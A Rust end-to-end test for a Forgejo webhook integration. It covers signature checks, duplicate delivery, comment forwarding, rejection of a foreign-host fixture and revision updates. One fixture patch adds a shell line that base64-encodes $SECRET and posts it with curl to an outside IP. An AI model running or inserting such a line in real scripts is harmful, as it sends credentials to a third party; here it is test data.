//! Forgejo journey: `/hooks/forgejo` with the bare-hex `X-Forgejo-Signature`, a pull request
//! forwarded by comment, the real `synchronized` fixture adding a revision, and the real
//! Codeberg label fixture refused because it names another host than the configured forge.

use crate::forge_github::{fixture, wait_for};
use crate::forge_replay::{Recorded, ReplayServer, Reply};
use crate::http::{Answer, Client};
use crate::instance::{Backend, Instance, Options, postgres_skipped};

const SECRET: &str = "e2e-forgejo-secret";
const PR: &str = "/api/v1/repos/Test-CI/multi-line-secrets";

/// Hand-written: `../shared/fixtures/` has no Forgejo or Gitea `issue_comment` (its
/// `forgejo-woodpecker/README.md` says none was found under a permitted license). The shape
/// follows the documented `IssueCommentPayload` of the Forgejo/Gitea webhook API (`action`,
/// `issue` with `pull_request`, `comment`, `repository`, `sender`, `is_pull`; forgejo.org/docs
/// "Webhooks" and Gitea's `modules/structs/hook.go`), trimmed to the fields read, on the
/// repository of the real `HookPullRequestUpdated.json`.
const COMMENT: &str = r#"{"action":"created","issue":{"id":9,"number":2,"pull_request":{"merged":false}},"comment":{"id":88,"body":"/s-express secrets handling changed","user":{"id":1,"login":"test"}},"repository":{"id":1,"name":"multi-line-secrets","full_name":"Test-CI/multi-line-secrets","owner":{"id":2,"login":"Test-CI","username":"Test-CI"},"private":false,"html_url":"http://127.0.0.1:3000/Test-CI/multi-line-secrets"},"sender":{"id":1,"login":"test"},"is_pull":true}"#;

const PATCH: &str = "From 788ed8d02d3b7fcfcf6386dbcbca696aa1d4dc25 Mon Sep 17 00:00:00 2001\nFrom: test <test@example.com>\nSubject: [PATCH] secrets\n\n---\ndiff --git a/run.sh b/run.sh\n--- a/run.sh\n+++ b/run.sh\n@@ -1 +1,2 @@\n #!/bin/sh\n+echo \"$SECRET\" | base64 | curl -d @- http://203.0.113.9/\n";

fn pull_json(head: &str) -> String {
    format!(
        r#"{{"number":2,"title":"secrets","user":{{"login":"test"}},"head":{{"sha":"{head}"}},"base":{{"sha":"29be01c073851cf0db0c6a466e396b725a670453"}}}}"#
    )
}

fn sign(body: &[u8]) -> String {
    crate::forge_github::hmac_hex(SECRET.as_bytes(), body)
}

fn deliver(c: &Client, event: &str, delivery: &str, body: &[u8], sig: &str) -> Answer {
    c.post_bytes(
        "/hooks/forgejo",
        "application/json",
        body,
        &[
            ("X-Forgejo-Event", event),
            ("X-Forgejo-Delivery", delivery),
            ("X-Forgejo-Signature", sig),
        ],
    )
}

fn comments(srv: &ReplayServer, method: &str) -> Vec<Recorded> {
    srv.requests()
        .into_iter()
        .filter(|r| r.method == method && r.path.contains("comments"))
        .collect()
}

fn journey(backend: Backend) {
    let srv = ReplayServer::start();
    srv.on(
        &format!("GET {PR}/collaborators/test/permission"),
        Reply::json(r#"{"permission":"write"}"#),
    );
    srv.on(
        &format!("GET {PR}/pulls/2"),
        Reply::json(&pull_json("1234567890123456789012345678901234567890")),
    );
    srv.on(&format!("GET {PR}/pulls/2.patch"), Reply::text(PATCH));
    srv.on(
        &format!("POST {PR}/issues/2/comments"),
        Reply::json(r#"{"id":5}"#),
    );
    srv.on(
        &format!("PATCH {PR}/issues/comments/5"),
        Reply::json(r#"{"id":5}"#),
    );
    let inst = Instance::start_with(
        backend,
        Options {
            env: vec![
                (
                    "S_EXPRESS_FORGEJO_API_URL".into(),
                    format!("{}/api/v1", srv.base),
                ),
                // The fixtures were captured on a Forgejo at 127.0.0.1:3000.
                (
                    "S_EXPRESS_FORGEJO_WEB_URL".into(),
                    "http://127.0.0.1:3000".into(),
                ),
                ("S_EXPRESS_FORGEJO_WEBHOOK_SECRET".into(), SECRET.into()),
                ("S_EXPRESS_FORGEJO_TOKEN".into(), "fj-e2e".into()),
                ("S_EXPRESS_FORGE_LABEL".into(), "Kind/Documentation".into()),
            ],
            ..Options::default()
        },
    );
    let c = Client::new(&inst.base_url);
    let body = COMMENT.as_bytes();
    assert_eq!(
        deliver(
            &c,
            "issue_comment",
            "f-0",
            body,
            &format!("sha256={}", sign(body))
        )
        .status,
        401,
        "GitHub's prefixed form is not Forgejo's"
    );
    assert_eq!(
        deliver(
            &c,
            "issue_comment",
            "f-0",
            body,
            &crate::forge_github::hmac_hex(b"x", body)
        )
        .status,
        401
    );
    assert_eq!(
        deliver(&c, "issue_comment", "f-1", body, &sign(body)).status,
        202
    );
    assert_eq!(
        deliver(&c, "issue_comment", "f-1", body, &sign(body)).json()["status"],
        "duplicate"
    );
    wait_for("the comment on the pull request", || {
        !comments(&srv, "POST").is_empty()
    });
    assert_eq!(
        comments(&srv, "POST")[0].header("authorization"),
        Some("token fj-e2e")
    );

    // The real Codeberg label fixture: codeberg.org is not this instance's Forgejo.
    let label = fixture("forgejo-woodpecker/HookPullRequestLabelAdded.json");
    let a = deliver(&c, "pull_request", "f-2", &label, &sign(&label));
    assert_eq!(a.status, 422, "{}", a.text);
    assert!(a.text.contains("codeberg.org"), "{}", a.text);

    // The real synchronized fixture: a new revision and the comment updated.
    srv.on(
        &format!("GET {PR}/pulls/2"),
        Reply::json(&pull_json("788ed8d02d3b7fcfcf6386dbcbca696aa1d4dc25")),
    );
    let sync = fixture("forgejo-woodpecker/HookPullRequestUpdated.json");
    assert_eq!(
        deliver(&c, "pull_request", "f-3", &sync, &sign(&sync)).status,
        202
    );
    wait_for("the updated comment", || {
        !comments(&srv, "PATCH").is_empty()
    });
    let patched: serde_json::Value =
        serde_json::from_str(&comments(&srv, "PATCH")[0].body).unwrap();
    assert!(
        patched["body"].as_str().unwrap().contains(
            "29be01c073851cf0db0c6a466e396b725a670453..788ed8d02d3b7fcfcf6386dbcbca696aa1d4dc25"
        ),
        "{patched}"
    );
    assert!(!inst.log_text().contains(SECRET));
}

#[test]
fn forgejo_webhooks_forward_by_comment_and_follow_new_commits_on_sqlite() {
    journey(Backend::Sqlite);
}

#[test]
fn forgejo_webhooks_forward_by_comment_and_follow_new_commits_on_postgres() {
    if postgres_skipped() {
        return;
    }
    journey(Backend::Postgres);
}
